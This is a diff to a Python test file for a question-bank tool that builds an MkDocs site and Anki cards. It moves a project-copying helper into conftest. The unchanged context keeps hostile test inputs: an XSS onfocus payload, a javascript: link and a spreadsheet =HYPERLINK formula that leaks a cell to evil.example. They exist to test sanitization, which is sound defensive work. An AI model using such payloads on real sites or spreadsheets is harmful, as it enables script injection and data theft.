@@ -35,7 +35,7 @@ import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from conftest import REPO, mkdocs_build
+from conftest import REPO, copy_project, mkdocs_build, qbank_cmd
 from qbank import importer
 from qbank.anki import answer_html, markdown_to_anki_html
 from qbank.bank import Question, slugify
@@ -45,8 +45,7 @@ from qbank.site import pages
 from qbank.site.sanitize import TAGS, removed, sanitize_html
 from qbank.validate import Context, validate_text
 
-QBANK = [str(REPO / ".venv" / "bin" / "qbank")] if (REPO / ".venv" / "bin" / "qbank").exists() else [
-    sys.executable, "-c", "from qbank.cli import main; main()"]
+QBANK = qbank_cmd()
 ZORBLAX = "What is a [zorblax](https://example.com){autofocus=1 onfocus=alert(document.domain)} widget?"
 JS_TITLE = "Why is [this link](javascript:alert(1)) in a title?"
 FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'
@@ -65,18 +64,6 @@ i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
 
 
 # -- helpers ------------------------------------------------------------------------------
-
-
-def copy_project(dest: Path) -> Path:
-    """A copy a test may change: docs, data and seeds copied; code and node_modules linked."""
-    dest.mkdir(parents=True)
-    for name in ("docs", "data", "seeds"):
-        shutil.copytree(REPO / name, dest / name, ignore=shutil.ignore_patterns("__pycache__"))
-    for name in ("mkdocs.yml", "package.json", "package-lock.json"):
-        shutil.copy2(REPO / name, dest / name)
-    for name in ("node_modules", "scripts", "overrides"):
-        os.symlink(REPO / name, dest / name, target_is_directory=True)
-    return dest
 
 
 def question(title: str, body: str, topic: str = "foundations", qid: str = "q-5ec0001", tags: str = "neural-networks") -> str:
@@ -147,7 +134,7 @@ def article(html: str) -> str:
 
 @pytest.fixture(scope="module")
 def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    root = copy_project(tmp_path_factory.mktemp("hostile") / "repo")
+    root = copy_project(tmp_path_factory.mktemp("hostile") / "repo", copy=("docs", "data", "seeds"), site=True)
     folder = root / "docs" / "questions" / "foundations"
     for qid, title, body in (("q-5ec0001", ZORBLAX, "A zorblax is a made-up word."),
                              ("q-5ec0002", JS_TITLE, "It should not be a link."),
@@ -251,7 +238,7 @@ def test_no_dialog_opens_in_a_real_browser(hostile_site: Path, browser) -> None:
 
 @pytest.fixture
 def project(tmp_path: Path) -> Path:
-    return copy_project(tmp_path / "repo")
+    return copy_project(tmp_path / "repo", copy=("docs", "data", "seeds"), site=True)
 
 
 def codes(proc: subprocess.CompletedProcess) -> list[str]:
